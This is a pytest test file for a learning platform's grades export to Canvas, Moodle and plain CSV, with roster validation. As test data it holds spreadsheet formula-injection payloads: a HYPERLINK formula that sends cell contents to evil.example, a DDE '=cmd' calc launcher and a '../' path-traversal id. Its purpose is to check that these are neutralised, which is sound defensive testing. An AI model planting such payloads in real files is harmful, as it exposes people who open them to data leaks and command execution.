"""`course grades` for a learning platform: names from the class roster, the Canvas and Moodle
import formats (their documented columns; sources in course/cli/grades.py), roster errors
that name the file, line and column, and no cell a spreadsheet would evaluate."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from support.pipeline import course_main
from course.roster import RosterError, parse_roster

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SCORES = {  # student -> (a1 t1 of 8, a1 t2 of 2, a2 of 5); None: no submission
    "ann": ((7.5, 2.0), 4.0),
    "bo": ((3.0, 0.0), None),
    "cy": ((8.0, 1.0), 5.0),
}
ROSTER = """student_id,first_name,last_name,email,lms_id
ann,Ann,Archer,ann@academy.example,S1001
bo,Bo,Baker,,S1002
dee,Dee,Drake,dee@academy.example,S1004
"""


def build_gradebook(course: Path, extra_students: tuple[str, ...] = ()) -> None:
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "police-negotiation") as gb:
        gb.add_assignment("a1")
        gb.add_notebook("a1", "a1")
        gb.add_grade_cell("t1", "a1", "a1", max_score=8, cell_type="code")
        gb.add_grade_cell("t2", "a1", "a1", max_score=2, cell_type="code")
        gb.add_assignment("a2")
        gb.add_notebook("a2", "a2")
        gb.add_grade_cell("u1", "a2", "a2", max_score=5, cell_type="code")
        for student, ((one, two), three) in SCORES.items():
            gb.add_student(student)
            gb.add_submission("a1", student)
            gb.find_grade("t1", "a1", "a1", student).auto_score = one
            gb.find_grade("t2", "a1", "a1", student).auto_score = two
            if three is not None:
                gb.add_submission("a2", student)
                gb.find_grade("u1", "a2", "a2", student).auto_score = three
        for student in extra_students:
            gb.add_student(student)
        gb.db.commit()


def export(course: Path, *args: str) -> tuple[list[list[str]], str, str]:
    result = course_main(course, "grades", "-o", "-", *args)
    assert result.returncode == 0, result.stderr
    return list(csv.reader(io.StringIO(result.stdout))), result.stdout, result.stderr


@pytest.fixture
def course(course_copy):
    build_gradebook(course_copy)
    (course_copy / "roster.csv").write_text(ROSTER, encoding="utf-8")
    return course_copy


def test_plain_takes_names_from_the_course_roster_and_says_who_is_missing(course):
    rows, _, err = export(course)
    assert rows[0] == ["student_id", "last_name", "first_name", "email", "a1", "a2", "total"]
    assert rows[1] == ["Points Possible", "", "", "", "10", "5", "15"]
    by_id = {r[0]: r for r in rows[2:]}
    assert by_id["ann"] == ["ann", "Archer", "Ann", "ann@academy.example", "9.5", "4", "13.5"]
    assert by_id["bo"] == ["bo", "Baker", "Bo", "", "3", "0", "3"]
    assert by_id["cy"] == ["cy", "", "", "", "9", "5", "14"]          # no roster row: still exported
    assert "no roster row" in err and "'cy'" in err                     # ... and warned about
    assert "no student in the gradebook" in err and "'dee' (line 4)" in err


def test_canvas_format_has_canvas_columns_points_row_and_roster_ids(course):
    rows, _, err = export(course, "--format", "canvas", "--canvas-id", "a2=4711")
    # Canvas's importer: header starts Student, ID; SIS User ID, SIS Login ID; student columns end with Section.
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "a1", "a2 (4711)"]
    assert rows[1] == ["    Points Possible", "", "", "", "", "10", "5"]
    assert "Points Possible" in rows[1][0]
    by_name = {r[0]: r for r in rows[2:]}
    assert by_name["Archer, Ann"] == ["Archer, Ann", "", "S1001", "ann@academy.example", "", "9.5", "4"]
    assert by_name["Baker, Bo"] == ["Baker, Bo", "", "S1002", "", "", "3", "0"]
    assert by_name["cy"] == ["cy", "", "", "", "", "9", "5"]
    assert all(len(r) == len(rows[0]) for r in rows)
    assert "total" not in rows[0]                     # Canvas would make it a new assignment
    assert "'cy'" in err


def test_moodle_format_one_identifier_column_and_no_unmatchable_rows(course):
    rows, _, err = export(course, "--format", "moodle")
    assert rows[0] == ["Email address", "a1", "a2"]
    assert rows[1:] == [["ann@academy.example", "9.5", "4"]]    # bo has no email, cy no roster row
    assert "2 student(s) left out" in err and "'bo'" in err and "'cy'" in err
    assert "its maximum in Moodle (a1 10, a2 5)" in err
    rows, _, _ = export(course, "--format", "moodle", "--moodle-id", "lms_id", "a2")
    assert rows == [["Username", "a2"], ["S1001", "4"], ["S1002", "0"]]


def test_moodle_without_identifiers_is_an_error_and_options_belong_to_their_format(course):
    (course / "roster.csv").unlink()
    result = course_main(course, "grades", "-o", "-", "--format", "moodle")
    assert result.returncode == 1 and "no student has an email" in result.stderr and result.stdout == ""
    for args in (["--moodle-id", "lms_id"], ["--format", "moodle", "--canvas-id", "a1=1"]):
        result = course_main(course, "grades", "-o", "-", *args)
        assert result.returncode == 1 and "is for --format" in result.stderr, result.stderr
    result = course_main(course, "grades", "-o", "-", "--format", "canvas", "--canvas-id", "a1=x")
    assert result.returncode == 1 and "ASSIGNMENT=NUMBER" in result.stderr


def test_roster_check_command_for_the_hub(tmp_path):
    """deploy/hub/start.sh --roster runs `python -m course.roster FILE` before it makes anything."""
    import os
    import subprocess
    import sys

    good, bad = tmp_path / "good.csv", tmp_path / "bad.csv"
    good.write_text(ROSTER, encoding="utf-8")
    bad.write_text("student_id,first_name,last_name,email\nann,A,B,\nann,C,D,\n", encoding="utf-8")
    env = dict(os.environ, PYTHONPATH=str(Path(__file__).resolve().parents[1]))
    ok = subprocess.run([sys.executable, "-m", "course.roster", str(good)], capture_output=True, text=True, env=env)
    assert ok.returncode == 0 and ok.stdout.split() == ["ann", "bo", "dee"], ok.stderr
    no = subprocess.run([sys.executable, "-m", "course.roster", str(bad)], capture_output=True, text=True, env=env)
    assert no.returncode == 2 and f"{bad} line 3, column student_id" in no.stderr and "already on line 2" in no.stderr


def test_output_file_and_summary_line(course):
    out = course / "canvas.csv"
    result = course_main(course, "grades", "--format", "canvas", "-o", str(out))
    assert result.returncode == 0, result.stderr
    assert "3 student(s), 2 assignment(s)" in result.stdout and "roster.csv" in result.stdout
    assert list(csv.reader(out.open(encoding="utf-8")))[0][0] == "Student"


def test_an_explicit_roster_replaces_the_course_one(course, tmp_path):
    other = tmp_path / "class list.csv"
    other.write_text("Student ID,First Name,Last Name,E-mail\ncy,Cy,Cole,cy@academy.example\n", encoding="utf-8-sig")
    rows, _, err = export(course, "--roster", str(other))
    assert {r[0]: r[1:4] for r in rows[2:]}["cy"] == ["Cole", "Cy", "cy@academy.example"]
    assert "'ann'" in err and "'bo'" in err
    missing = course_main(course, "grades", "-o", "-", "--roster", str(tmp_path / "nope.csv"))
    assert missing.returncode == 1 and "nope.csv" in missing.stderr and "Traceback" not in missing.stderr


@pytest.mark.parametrize("text, line, column", [
    ("student_id,first_name,last_name,email,phone\nann,A,B,a@x.example,1\n", 1, "5 ('phone')"),
    ("student_id,first_name,last_name,email\nann,A,B,a@x.example\nbo,B,C,\nann,X,Y,\n", 4, "student_id"),
    (f'student_id,first_name,last_name,email\nann,A,B,\n"{HYPERLINK.replace(chr(34), chr(34) * 2)}",E,F,\n', 3, "student_id"),
    ("student_id,first_name,last_name,email\n../bo,A,B,\n", 2, "student_id"),
    ("student_id,first_name,last_name,email\nann,A,B,not-an-email\n", 2, "email"),
    ("student_id,first_name,last_name,email,lms_id\nann,A,B,,=1+2\n", 2, "lms_id"),
    ("student_id,first_name,last_name,email\nann,A,B,,extra\n", 2, None),
    ("student_id,first_name,email\nann,A,\n", 1, None),
])
def test_a_bad_roster_line_is_an_error_naming_file_line_and_column(course, text, line, column):
    (course / "roster.csv").write_text(text, encoding="utf-8")
    result = course_main(course, "grades", "-o", "-")
    assert result.returncode == 1 and result.stdout == "" and "Traceback" not in result.stderr
    assert f"roster.csv line {line}" in result.stderr, result.stderr
    if column:
        assert f"column {column}" in result.stderr, result.stderr


def test_a_formula_never_reaches_a_cell_unquoted(course_copy):
    build_gradebook(course_copy, extra_students=(HYPERLINK,))
    (course_copy / "roster.csv").write_text(
        "student_id,first_name,last_name,email\nann,=cmd|' /C calc'!A0,@SUM(1),ann@academy.example\n", encoding="utf-8")
    for fmt in ("plain", "canvas", "moodle"):
        rows, text, _ = export(course_copy, "--format", fmt)
        cells = [c for r in rows for c in r]
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or
                    (c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit())], (fmt, cells)
        for physical in text.splitlines():        # every cell quoted: none starts a line or follows a bare comma
            assert physical.startswith('"') and ',=' not in physical and ',@' not in physical
        if fmt != "moodle":
            assert "'" + HYPERLINK in cells
        expected = {"plain": ["'=cmd|' /C calc'!A0", "'@SUM(1)"], "canvas": ["'@SUM(1), =cmd|' /C calc'!A0"],
                    "moodle": ["ann@academy.example"]}[fmt]
        assert all(e in cells for e in expected), (fmt, cells)


def test_parse_roster_accepts_excel_csv():
    text = "\ufeffStudent ID,First name,Last name,Email,LMS ID,,\r\nann,Ann,Árcher,ann@x.example,S1,,\r\n,,,,,,\r\n\r\n"
    roster = parse_roster(text, "r.csv")
    assert list(roster) == ["ann"] and roster["ann"].last_name == "Árcher" and roster["ann"].line == 2
    assert roster["ann"].sortable_name == "Árcher, Ann"
    with pytest.raises(RosterError, match=r"r.csv line 2, column 5: 'x' is under a column with no name"):
        parse_roster("student_id,first_name,last_name,email,\nann,A,B,,x\n", "r.csv")
    with pytest.raises(RosterError, match=r"r.csv line 1, column 3 \('First Name'\): repeats column 2"):
        parse_roster("student_id,first_name,First Name,last_name,email\n", "r.csv")
